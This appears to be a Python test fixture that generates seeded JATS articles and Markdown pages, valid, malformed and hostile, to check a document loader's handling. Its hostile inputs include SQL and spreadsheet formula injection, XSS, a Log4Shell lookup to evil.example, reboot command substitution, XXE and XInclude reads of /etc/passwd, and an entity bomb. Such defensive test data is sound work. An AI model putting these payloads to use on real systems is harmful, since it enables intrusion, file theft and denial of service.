"""Documents as strangers send them: good, broken and hostile, by a seed, each with what has to become of it."""

import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random

from tests.integration import samples
from tests.integration.samples import article, page, pmcid

LOADED, UNCHANGED = "loaded", "unchanged"
#: What each text field may hold.
TEXTS = (
    "Robert'); DROP TABLE papers;--",
    "x\" OR 1=1; COPY papers TO '/tmp/owned'; --",
    "=HYPERLINK(\"http://evil.example/\";\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n $(reboot) `reboot`",
    "right \u202eot tfel\u202c and \u200fmarks, \ufeffjoined \u200dup, \u0301 alone",
    "C1 \x9b31m and DEL \x7f, line\u2028ends\u2029here",
    "漢字 مرحبا 👩‍👩‍👧 𝔘 " + "a\u0300" * 50,
    "NULL", "None", "NaN", "0", "1e309", "true",
)  # fmt: skip
DTD = "<!DOCTYPE article [{0}]>\n<article article-type="
XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
LOL = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


@dataclass(frozen=True)
class Stranger:
    """A document. becomes: LOADED, UNCHANGED, or the check that it fails. double_of: the name of an earlier one."""

    kind: str
    name: str
    content: bytes
    becomes: str
    double_of: str | None = None


Maker = Callable[[int, Random], tuple[bytes, str]]


def hostile_text(chance: Random) -> str:
    return chance.choice(TEXTS)


def _encoded(number: int, chance: Random, encoding: str) -> bytes:
    text = article(number, title=f"Ä title of {number}")
    return text.replace("UTF-8", encoding).encode(encoding)


def with_dtd(number: int, declarations: str, reference: str = "") -> str:
    """An article whose DTD declares something, which its text may refer to."""
    text = article(number, words="A word.").replace("<article article-type=", DTD.format(declarations), 1)
    return text.replace("A word.", f"A word.{reference}", 1)


def _cut(number: int, chance: Random) -> bytes:
    whole = article(number).encode()
    return whole[: chance.randrange(300, len(whole) - 40)]


#: How each kind of JATS document is made, and what becomes of it.
ARTICLES: dict[str, Maker] = {
    "good": lambda n, c: (article(n).encode(), LOADED),
    "hostile text": lambda n, c: (article(n, title=hostile_text(c), words=hostile_text(c)).encode(), LOADED),
    "utf-16": lambda n, c: (_encoded(n, c, "UTF-16"), LOADED),
    "latin-1, declared": lambda n, c: (_encoded(n, c, "ISO-8859-1"), LOADED),
    "id of 10 kB": lambda n, c: (article(n).replace(pmcid(n), "PMC" + "9" * 10_000, 1).encode(), LOADED),
    "external DTD": lambda n, c: (with_dtd(n, "").replace(" []", ' SYSTEM "file:///etc/passwd"').encode(), LOADED),
    "XInclude": lambda n, c: (article(n).replace("<sec>", f"{XINCLUDE}<sec>", 1).encode(), LOADED),
    "wrong ORCID iD": lambda n, c: (article(n, orcid="0000-0002-1825-0098").encode(), LOADED),
    "latin-1, undeclared": lambda n, c: (article(n, title="Ä").encode("latin-1"), "well_formed"),
    "truncated": lambda n, c: (_cut(n, c), "well_formed"),
    "control character": lambda n, c: (article(n, title="a").replace(">a<", ">a\x1b[31m<").encode(), "well_formed"),
    "surrogate": lambda n, c: (article(n, title="a").replace(">a<", ">a&#xD800;<").encode(), "well_formed"),
    "no title": lambda n, c: (article(n, title=None).encode(), "not_nullable"),
    "empty": lambda n, c: (b"", "empty"),
    "white space": lambda n, c: (b" \n\t" * c.randrange(1, 99), "empty"),
    "HTML page": lambda n, c: (f"<!DOCTYPE html><html><head><title>{n}</title></head></html>".encode(), "not_jats"),
    "Markdown": lambda n, c: (page(n).encode(), "not_jats"),
    "JSON": lambda n, c: (json.dumps({"pmcid": pmcid(n)}).encode(), "not_jats"),
    "other XML": lambda n, c: (f"<rss><channel><title>{n}</title></channel></rss>".encode(), "not_jats"),
    "external entity": lambda n, c: (
        with_dtd(n, '<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;").encode(), "entity"),
    "entity bomb": lambda n, c: (with_dtd(n, LOL, "&a9;").encode(), "entity"),
    "nested": lambda n, c: (
        article(n, words="A word.").replace("A word.", "<b>" * 2000 + "</b>" * 2000, 1).encode(), "too_deep"),
    "bytes": lambda n, c: (b"\x7fELF" + c.randbytes(500), "not_jats"),
}  # fmt: skip

#: The same of Markdown pages.
PAGES: dict[str, Maker] = {
    "good page": lambda n, c: (page(n).encode(), LOADED),
    "hostile page": lambda n, c: (page(n, title=f"T {hostile_text(c)}").encode(), LOADED),
    "page with escapes": lambda n, c: (page(n, title=f"A \x1b[31mred\x1b]0;n\x07 title {n}").encode(), LOADED),
    "page, cut": lambda n, c: (page(n).encode()[: c.randrange(200, 600)], LOADED),
    "page without title": lambda n, c: (page(n, title=None).encode(), "not_nullable"),
    "page, not UTF-8": lambda n, c: (page(n).encode().replace("Ö".encode(), b"\xd6"), "encoding"),
    "empty page": lambda n, c: (b"", "empty"),
    "HTML for a page": lambda n, c: (b"<html><body># Not found</body></html>", "not_a_page"),
    "JSON for a page": lambda n, c: (b'{"detail": "Not Found"}', "not_a_page"),
    "JATS for a page": lambda n, c: (article(n).encode(), "not_a_page"),
    "an apology": lambda n, c: (f"We are sorry. Try {n} again later.".encode(), "not_a_page"),
}

#: Half of all documents are good.
GOOD = 0.5


def strangers(count: int, seed: int, first: int, makers: dict[str, Maker], suffix: str) -> Iterator[Stranger]:
    """So many documents, numbered from ``first``; some come twice, and some again with other content."""
    chance = Random(f"{seed} {first}")
    good, *others = makers
    made: list[Stranger] = []
    for number in range(first, first + count):
        name = f"{number:07}.{suffix}"
        loaded = [stranger for stranger in made[-50:] if stranger.kind == good]
        draw = chance.random()
        if draw < 0.04 and loaded:
            earlier = chance.choice(loaded)
            stranger = Stranger("twice", name, earlier.content, UNCHANGED, earlier.name)
        elif draw < 0.06 and loaded:
            earlier = chance.choice(loaded)
            content = earlier.content.replace(b"edition 1", b"edition 2")
            stranger = Stranger("twice, but different", name, content, "unique", earlier.name)
        else:
            kind = good if chance.random() < GOOD else chance.choice(others)
            content, becomes = makers[kind](number, chance)
            stranger = Stranger(kind, name, content, becomes)
        made.append(stranger)
        yield stranger


def packed(some: list[Stranger], name: str) -> bytes:
    """An archive of documents, of the kind that its name says, between members that are none."""
    files = {stranger.name: stranger.content for stranger in some}
    if name.endswith(".zip"):
        return samples.zip_of(files)
    return gzip.compress(samples.tar_of(files, ""), 1)
